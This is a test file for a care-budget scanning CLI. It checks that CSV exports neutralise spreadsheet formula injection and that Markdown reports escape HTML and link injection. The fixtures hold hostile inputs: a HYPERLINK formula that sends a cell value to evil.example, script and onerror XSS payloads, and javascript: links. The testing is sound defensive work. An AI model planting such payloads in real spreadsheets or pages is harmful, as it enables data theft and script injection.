@@ -1,0 +1,120 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { parse } from 'csv-parse/sync';
+import { describe, expect, it } from 'vitest';
+import { csvField, csvText } from '../../src/report/csv-format.js';
+import { mdText } from '../../src/report/markdown-text.js';
+import { DECL_HEADER, HOLDERS_HEADER, PROVIDERS_HEADER, runCli, tempDir, writeFiles } from '../support/cli.js';
+
+describe('csvText (formula injection)', () => {
+  it.each([
+    ['=HYPERLINK("http://x")', `'=HYPERLINK("http://x")`],
+    ['+31 6 1234', `'+31 6 1234`],
+    ['@SUM(A1)', `'@SUM(A1)`],
+    ['\t=1+1', `'\t=1+1`],
+    ['\r=1+1', `'\r=1+1`],
+    ['-1+1', `'-1+1`],
+    ['-A1', `'-A1`],
+    ['-', `'-`],
+    ['-500', '-500'],
+    ['-1.234,56', '-1.234,56'],
+    ['-12.5', '-12.5'],
+    ['-,5', '-,5'],
+    ['Zorg = goed', 'Zorg = goed'],
+    ['', ''],
+  ])('%j -> %j', (input, expected) => expect(csvText(input)).toBe(expected));
+
+  it('quotes after neutralising, and leaves computed numbers alone', () => {
+    expect(csvField('=1,2')).toBe(`"'=1,2"`);
+    expect(csvField(-500)).toBe('-500');
+    expect(csvField(-1.5)).toBe('-1.5');
+  });
+});
+
+describe('mdText (Markdown and HTML injection)', () => {
+  it.each([
+    ['<script>alert(1)</script>', '&lt;script&gt;alert(1)&lt;/script&gt;'],
+    ['<img src=x onerror=alert(1)>', '&lt;img src=x onerror=alert(1)&gt;'],
+    ['[klik](javascript:alert(1))', '\\[klik\\](javascript:alert(1))'],
+    ['![](http://evil.example/p.png)', '!\\[\\](http://evil.example/p.png)'],
+    ['<http://evil.example>', '&lt;http://evil.example&gt;'],
+    ['ZV|1', 'ZV\\|1'],
+    ['a\nb\r\nc\rd\u2028e', 'a b c d e'],
+    ['**vet** _schuin_ ~~weg~~ `code`', '\\*\\*vet\\*\\* \\_schuin\\_ \\~\\~weg\\~\\~ \\`code\\`'],
+    ['budget_start', 'budget_start'],
+    ['&lt; al een entiteit', '&amp;lt; al een entiteit'],
+    ['eind\\', 'eind\\\\'],
+  ])('%j -> %j', (input, expected) => expect(mdText(input)).toBe(expected));
+});
+
+const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"klik")<script>alert(1)</script>[x](javascript:alert(1))![](http://evil.example/p.png)<http://evil.example>';
+const HOSTILE_ID = '@ZV|1';
+
+/** The small export with a provider whose name and id attack spreadsheets and Markdown viewers. */
+function hostileExport(dir: string): string {
+  return writeFiles(dir, {
+    'budgethouders.csv':
+      HOLDERS_HEADER +
+      'BH1,GM0363,wmo,begeleid_wonen,20000.00,2025-01-01,,A1,,\n' +
+      'BH2,GM0363,wmo,begeleid_wonen,20000.00,2025-01-01,,A2,,2025-03-10\n' +
+      'BH3,GM0363,wmo,begeleiding,15000.00,2025-01-01,,A3,,\n',
+    'zorgverleners.csv':
+      PROVIDERS_HEADER +
+      `"${HOSTILE_ID}","${HOSTILE_NAME.replace(/"/g, '""')}",zzp,01234567,X1,I1\n` +
+      'ZV-OK,Hulp Twee,zzp,07654321,X2,I2\n' +
+      'ZV-BAD,Derde,=1+1,07654322,X3,I3\n',
+    'declaraties.csv':
+      DECL_HEADER +
+      `D1,BH1,"${HOSTILE_ID}",2025-03-03,06:00,20:00,14,40.00,560.00\n` +
+      `D2,BH2,"${HOSTILE_ID}",2025-03-03,07:00,19:00,12,40.00,480.00\n` +
+      `D3,BH2,"${HOSTILE_ID}",2025-03-12,09:00,12:00,3,40.00,120.00\n` +
+      'D4,BH3,ZV-OK,2025-03-04,09:00,13:00,4,38.00,152.00\n' +
+      'D5,BH3,ZV-OK,2025-03-05,09:00,13:00,-500,38.00,152.00\n',
+  });
+}
+
+/** Every cell of a CSV output that a spreadsheet would run as a formula. */
+const formulaCells = (csv: string) =>
+  (parse(csv, { relax_column_count: true }) as string[][]).flat().filter((c) => /^[=+@\t\r]/.test(c) || /^-(?!\d+(?:[.,]\d+)*$)./.test(c));
+
+describe('a scan with hostile names', () => {
+  it('writes no formula into a CSV output and no markup into report.md; ndjson keeps the raw value', async () => {
+    const dir = hostileExport(tempDir());
+    const out = join(tempDir(), 'out');
+    const r = await runCli(['scan', dir, '--out', out, '--max-reject-rate', '1', '--stdout', 'csv']);
+    expect(r.code, r.stderr).toBe(0);
+
+    const providers = readFileSync(join(out, 'providers.csv'), 'utf8');
+    const rows = parse(providers) as string[][];
+    expect(rows[1][1]).toBe(`'${HOSTILE_ID}`);
+    expect(rows[1][2]).toBe(`'${HOSTILE_NAME}`);
+    expect(formulaCells(providers)).toEqual([]);
+    expect(r.stdout).toBe(providers);
+
+    const holders = readFileSync(join(out, 'budgethouders.csv'), 'utf8');
+    expect(holders).toContain(`'${HOSTILE_ID}`);
+    expect(formulaCells(holders)).toEqual([]);
+
+    const rejects = readFileSync(join(out, 'rejects.csv'), 'utf8');
+    const rejectRows = parse(rejects) as string[][];
+    expect(rejectRows.find((x) => x[2] === 'soort')?.[3]).toBe(`'=1+1`);
+    // A raw negative number is data, not a formula: it stays as it was.
+    expect(rejectRows.find((x) => x[2] === 'uren')?.[3]).toBe('-500');
+    expect(formulaCells(rejects)).toEqual([]);
+
+    const signals = readFileSync(join(out, 'signals.ndjson'), 'utf8').trim().split('\n').map((l) => JSON.parse(l));
+    expect(signals.some((s) => s.provider === HOSTILE_ID)).toBe(true);
+
+    const report = readFileSync(join(out, 'report.md'), 'utf8');
+    expect(report).toContain('&lt;script&gt;');
+    expect(report).not.toMatch(/<script|<img|<http/i);
+    expect(report).not.toMatch(/(?<!\\)\[[^\]]*(?<!\\)\]\(/); // no link or image syntax left
+    expect(report).toContain('@ZV\\|1');
+    // Every table row still has as many cells as its header.
+    for (const table of report.split('\n\n').filter((b) => b.startsWith('|'))) {
+      const cells = (line: string) => line.split(/(?<!\\)\|/).length;
+      const lines = table.split('\n');
+      for (const line of lines) expect(cells(line), line).toBe(cells(lines[0]));
+    }
+  });
+});
